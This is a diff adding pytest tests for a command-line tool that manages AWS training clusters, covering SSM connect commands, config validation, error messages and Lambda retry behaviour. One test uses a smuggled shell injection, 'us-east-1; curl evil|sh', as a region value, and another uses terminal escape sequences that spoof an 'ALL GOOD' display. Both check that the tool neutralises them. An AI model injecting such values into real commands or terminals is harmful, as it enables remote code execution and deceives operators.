@@ -209,7 +209,7 @@ def test_connect_takes_a_node_or_login_not_both() -> None:
     code, _, err = run("connect", "i-0123456789abcdef0", "--login", "--print")
     assert code == 1 and "give NODE (an instance id) or --login, not both" in err
     code, _, err = run("connect", "--print")
-    assert code == 1 and "give NODE (an instance id) or --login, not both" in err
+    assert code == 1 and "give NODE (an instance id), or --login for a login node" in err
 
 
 def test_connect_login_picks_a_running_login_node(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -227,7 +227,7 @@ def test_connect_login_picks_a_running_login_node(monkeypatch: pytest.MonkeyPatc
         node("i-0aaaaaaaaaaaaaaa0", "gpu", "running"),
         node("i-0ccccccccccccccc0", "login", "running"),
     ]
-    found = SimpleNamespace(stack="demo-training-cluster", region="eu-west-1", nodes=lambda: nodes)
+    found = SimpleNamespace(stack="demo-training-cluster", region="eu-west-1", nodes=lambda: nodes, hyperpod=None)
 
     @contextmanager
     def cluster_of(args: Any) -> Any:
@@ -241,3 +241,168 @@ def test_connect_login_picks_a_running_login_node(monkeypatch: pytest.MonkeyPatc
     nodes[1].state = nodes[3].state = "stopping"
     code, _, err = run("connect", "--login", "--stack", "demo-training-cluster", "--print")
     assert code == 1 and "no login node is running in demo-training-cluster" in err
+
+
+def _fake_cluster(monkeypatch: pytest.MonkeyPatch, nodes: list[Any], region: str = "eu-west-1") -> None:
+    from contextlib import contextmanager
+    from types import SimpleNamespace
+
+    from training_cluster.cli import _operate
+
+    found = SimpleNamespace(stack="demo-training-cluster", region=region, nodes=lambda: nodes, hyperpod=None)
+
+    @contextmanager
+    def cluster_of(args: Any) -> Any:
+        yield found
+
+    monkeypatch.setattr(_operate, "cluster_of", cluster_of)
+
+
+def test_connect_to_a_named_clusters_node_checks_it_and_takes_its_region_and_profile(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    from types import SimpleNamespace
+
+    member = SimpleNamespace(instance_id="i-0bbbbbbbbbbbbbbb0", group="gpu", state="running")
+    _fake_cluster(monkeypatch, [member])
+    code, out, _ = run(
+        "connect", "i-0bbbbbbbbbbbbbbb0", "--stack", "demo-training-cluster", "--profile", "prod", "--print"
+    )
+    assert code == 0
+    assert out.split() == [
+        "aws", "ssm", "start-session", "--target", "i-0bbbbbbbbbbbbbbb0", "--region", "eu-west-1", "--profile", "prod",
+    ]  # fmt: skip
+    code, _, err = run("connect", "i-0ccccccccccccccc0", "--stack", "demo-training-cluster", "--print")
+    assert code == 1 and "is not a running node of demo-training-cluster" in err
+
+
+def test_the_printed_command_is_quoted_for_a_shell() -> None:
+    code, out, _ = run("connect", "i-0123456789abcdef0", "--region", "us-east-1; curl evil|sh", "--print")
+    assert code == 0 and out.strip().endswith("--region 'us-east-1; curl evil|sh'")
+
+
+def test_text_from_the_cluster_reaches_the_terminal_without_control_sequences() -> None:
+    from training_cluster.cli._output import printable, table
+
+    hostile = "drained (\x1b]0;owned\x07\x1b[2J\x1b[H\x1b[32mALL GOOD\x1b[0m\r\x9b)" + "x" * 5000
+    shown = printable(hostile)
+    assert len(shown) == 80 and shown.endswith("…") and not any(c in shown for c in "\x1b\x07\r\x9b")
+    lines = table(["NODE", "SCHEDULER"], [["i-0123456789abcdef0", hostile]], lambda t: t)
+    assert max(len(line) for line in lines) < 120 and "\x1b" not in "".join(lines)
+
+
+def test_json_may_come_before_the_command_and_limits_are_positive(tmp_path: Path) -> None:
+    config = tmp_path / "c.yaml"
+    config.write_text(yaml.safe_dump(minimal_config()))
+    code, out, _ = run("--json", "validate", str(config))
+    assert code == 0 and json.loads(out)["valid"] is True
+    for argv in (["incidents", "--limit", "0"], ["status", "--incidents", "-2"], ["incidents", "--limit", "x"]):
+        with pytest.raises(SystemExit) as usage:
+            main([*argv, "--stack", "s"], out=io.StringIO(), err=io.StringIO())
+        assert usage.value.code == 2, argv
+
+
+def test_a_broken_config_is_exit_2_in_every_command(tmp_path: Path) -> None:
+    config = tmp_path / "broken.yaml"
+    config.write_text(yaml.safe_dump(minimal_config(name="Bad Name")))
+    code, _, err = run("status", "--config", str(config))
+    assert code == 2 and "name:" in err
+
+
+@pytest.mark.parametrize(
+    ("raised", "code", "said"),
+    [(KeyboardInterrupt(), 130, "interrupted"), (ValueError("odd answer"), 1, "unexpected ValueError: odd answer")],
+)
+def test_an_interrupt_or_an_unexpected_error_is_a_message_not_a_traceback(
+    monkeypatch: pytest.MonkeyPatch, raised: BaseException, code: int, said: str
+) -> None:
+    from training_cluster.cli import _operate
+
+    def fails(*args: Any) -> int:
+        raise raised
+
+    monkeypatch.setattr(_operate, "_incidents", fails)
+    monkeypatch.delenv("TRAINING_CLUSTER_DEBUG", raising=False)
+    got, _, err = run("incidents", "--stack", "s")
+    assert got == code and said in err and "Traceback" not in err
+
+
+def test_a_reader_that_goes_away_is_not_an_error() -> None:
+    config = ROOT / "examples" / "default.yaml"
+    script = Path(sys.executable).parent / "training-cluster"
+    reader = subprocess.Popen(["true"], stdin=subprocess.PIPE)
+    reader.wait()  # gone before a byte is written
+    assert reader.stdin is not None
+    writer = subprocess.run(
+        [str(script), "validate", str(config)], stdout=reader.stdin, stderr=subprocess.PIPE, text=True, check=False
+    )
+    reader.stdin.close()
+    assert writer.stderr == "" and writer.returncode == 0
+
+
+def test_gbps_show_a_decimal_where_they_have_one() -> None:
+    from training_cluster.cli._validate import _gbps
+
+    assert [_gbps(v) for v in (12.5, 25.0, 3200.0, 100.0)] == ["12.5", "25", "3,200", "100"]
+
+
+class _Lambda:
+    """A Lambda client whose Invoke fails as told, counting the calls."""
+
+    def __init__(self, *failures: BaseException) -> None:
+        self.failures, self.calls, self.configs = list(failures), 0, []
+
+    def client(self, service: str, region_name: str, config: Any) -> Any:
+        self.configs.append(config)
+        return self
+
+    def invoke(self, **params: Any) -> Any:
+        self.calls += 1
+        if self.failures:
+            raise self.failures.pop(0)
+        from io import BytesIO
+
+        return {"Payload": BytesIO(b'{"outcomes": [], "scheduler": {"i-0123456789abcdef0": "idle"}}')}
+
+
+def _operated(session: _Lambda) -> Any:
+    from training_cluster.operate import Cluster
+
+    return Cluster(stack="s", region="us-east-1", outputs={"RepairFunctionName": "f"}, groups={}, session=session)
+
+
+def _client_error(code: str) -> Exception:
+    from botocore.exceptions import ClientError
+
+    return ClientError({"Error": {"Code": code, "Message": code}}, "Invoke")
+
+
+def test_an_invoke_that_acts_is_sent_once_and_a_slow_answer_says_what_may_have_happened() -> None:
+    from botocore.exceptions import ReadTimeoutError
+
+    from training_cluster.operate import ACT_SECONDS, OperateError
+
+    session = _Lambda(ReadTimeoutError(endpoint_url="http://lambda"))
+    with pytest.raises(OperateError, match="the request may have been carried out; see `training-cluster incidents`"):
+        _operated(session).invoke({"repair": {}})
+    (config,) = session.configs
+    assert session.calls == 1 and config.retries == {"total_max_attempts": 1} and config.read_timeout == ACT_SECONDS
+
+
+def test_a_busy_function_is_asked_again_and_a_refusal_is_not(monkeypatch: pytest.MonkeyPatch) -> None:
+    import training_cluster.operate as operate
+
+    monkeypatch.setattr(operate.time, "sleep", lambda seconds: None)
+    busy = _Lambda(_client_error("TooManyRequestsException"), _client_error("TooManyRequestsException"))
+    assert _operated(busy).invoke({"repair": {}}) == [] and busy.calls == 3
+    denied = _Lambda(_client_error("AccessDeniedException"))
+    with pytest.raises(Exception, match="AccessDenied"):
+        _operated(denied).invoke({"repair": {}})
+    assert denied.calls == 1
+
+
+def test_nodes_do_without_the_scheduler_when_it_cannot_be_asked() -> None:
+    ids = ["i-0123456789abcdef0", "i-0123456789abcdef1"]
+    denied = _operated(_Lambda(_client_error("AccessDeniedException")))
+    assert denied.scheduler_states(ids) == dict.fromkeys(ids, "unknown (not allowed to ask the repair function)")
+    assert _operated(_Lambda()).scheduler_states(ids[:1]) == {"i-0123456789abcdef0": "idle"}
